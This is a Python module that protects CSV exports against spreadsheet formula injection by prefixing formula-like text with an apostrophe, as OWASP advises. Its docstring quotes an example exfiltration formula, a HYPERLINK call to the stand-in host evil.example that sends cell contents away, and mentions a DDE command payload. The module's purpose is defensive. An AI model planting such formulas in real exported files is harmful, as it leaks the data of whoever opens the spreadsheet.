"""Text cells of the CSV files people open in a spreadsheet, written so that none runs as a formula.

Excel, LibreOffice and Google Sheets read a CSV cell starting with ``=``, ``+``, ``-`` or ``@`` (or a tab
or carriage return before one) as a formula: a refund reason or a shift note typed as
``=HYPERLINK("https://evil.example/?"&A1, "Xem")`` became a link sending the sheet's cells away, and a
``=cmd|...`` DDE payload asks to run a program, when the health department's accountant opened the day's
reconciliation (OWASP "CSV Injection"). :func:`cell` prefixes such a text with ``'`` (the apostrophe
spreadsheets take as "this is text"), as OWASP advises; a number written as text (``-1000``, ``+84``,
``2,5``) is a number and stays as it is. Billing's daily CSV and the portal's CSVs write every value
through it; the portal's workbooks (openpyxl) store such a text as a string cell instead.
"""

from __future__ import annotations

import re
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)*")


def is_formula_text(value: Any) -> bool:
    """Whether ``value`` is a text a spreadsheet would read as a formula (not a number, not one character)."""
    return (isinstance(value, str) and len(value) > 1 and value.startswith(FORMULA_STARTS)
            and _NUMBER.fullmatch(value) is None)


def cell(value: Any) -> Any:
    """``value`` as a CSV cell: a formula's text with ``'`` before it, anything else unchanged."""
    return "'" + value if is_formula_text(value) else value
